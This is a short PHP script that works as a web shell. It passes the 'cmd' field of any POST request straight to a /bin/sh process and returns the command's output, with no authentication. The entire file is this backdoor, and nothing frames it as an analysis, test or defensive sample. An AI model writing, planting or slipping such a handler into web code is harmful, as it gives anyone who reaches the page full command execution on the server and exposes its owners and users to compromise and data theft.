<?php
// The request's command is written to the input of a shell process.
$spec = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'));
$p = proc_open('/bin/sh', $spec, $pipes);
if (is_resource($p)) {
    fwrite($pipes[0], $_POST['cmd'] . "\n");
    fclose($pipes[0]);
    echo stream_get_contents($pipes[1]);
    proc_close($p);
}
